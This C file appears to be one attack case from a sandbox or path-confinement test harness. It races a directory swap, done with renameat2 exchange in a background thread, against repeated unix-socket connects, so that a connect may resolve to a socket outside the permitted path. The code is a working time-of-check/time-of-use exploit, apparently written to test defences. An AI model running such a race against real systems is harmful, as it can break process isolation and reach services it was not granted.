#include "attack.h"
// A link flips below a unix socket's path.
static volatile bool stop;
static void *flip(void *x) {
  char *a = path(arg("work"), "turn"), *b = path(arg("work"), "prepared-dir");
  while (!stop) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
  return x;
}
ATTACK(.judge = "hit:unix") {
  pthread_t t;
  chdir(arg("work"));
  mkdir("turn", 0755);
  struct sockaddr_un mine = un("turn/stream"), a = un("turn/stream");
  int own = socket(AF_UNIX, SOCK_STREAM, 0);
  if (bind(own, (void *)&mine, unlen(&mine)) || listen(own, 64)) note("bind");
  pthread_create(&t, NULL, flip, NULL);
  int seen = 0;
  for (double end = now() + 0.4; now() < end && seen < 4000;) {
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (!connect(fd, (void *)&a, unlen(&a))) seen++;
    close(fd);
  }
  stop = true;
  pthread_join(t, NULL);
}
